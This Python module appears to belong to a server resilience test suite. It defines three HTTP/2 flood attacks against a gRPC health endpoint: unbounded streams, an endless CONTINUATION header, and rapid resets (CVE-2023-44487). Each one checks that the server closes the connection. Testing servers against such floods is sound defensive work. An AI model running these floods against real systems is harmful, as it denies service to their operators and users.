"""Floods of HTTP/2 below everything that looks at calls. One connection, nobody's token."""

import time

from prove_hostile import http2
from prove_hostile.crowds import attack_connection
from prove_hostile.registry import attack
from prove_hostile.siege import run_siege

HEALTH = "/grpc.health.v1.Health/Check"
BATCH = 500


def endless_streams(place):
    block = http2.call_fields(HEALTH)
    with attack_connection(place, acknowledge=False) as connection:
        while True:
            connection.send(b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, connection.next_stream(), block)
                                     for _ in range(BATCH)))
            connection.take()


def endless_header(place):
    # Small fields: each becomes an entry of the call's metadata.
    piece = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("a", "b") * 3000)
    # Nothing may come between the frames of a header, nor does an acknowledgement.
    with attack_connection(place, acknowledge=False) as connection:
        connection.send(http2.frame(http2.HEADERS, 0, 1, http2.call_fields(HEALTH)))
        while True:
            connection.send(piece * 16)
            connection.take()


def rapid_resets(place):
    block = http2.call_fields(HEALTH)
    with attack_connection(place) as connection:
        while True:
            streams = [connection.next_stream() for _ in range(BATCH)]
            connection.send(b"".join(http2.call(stream, block, b"") + http2.reset(stream) for stream in streams))
            connection.take()
            time.sleep(0)


@attack("h2-streams")
def streams(options, tokens):
    """a connection that opens streams without end and never acknowledges settings is closed"""
    return run_siege(options, tokens, [endless_streams])


@attack("h2-continuation")
def continuation(options, tokens):
    """a connection whose header never ends is closed"""
    return run_siege(options, tokens, [endless_header])


@attack("h2-resets")
def resets(options, tokens):
    """a connection that opens and resets calls without end is closed (CVE-2023-44487)"""
    return run_siege(options, tokens, [rapid_resets])
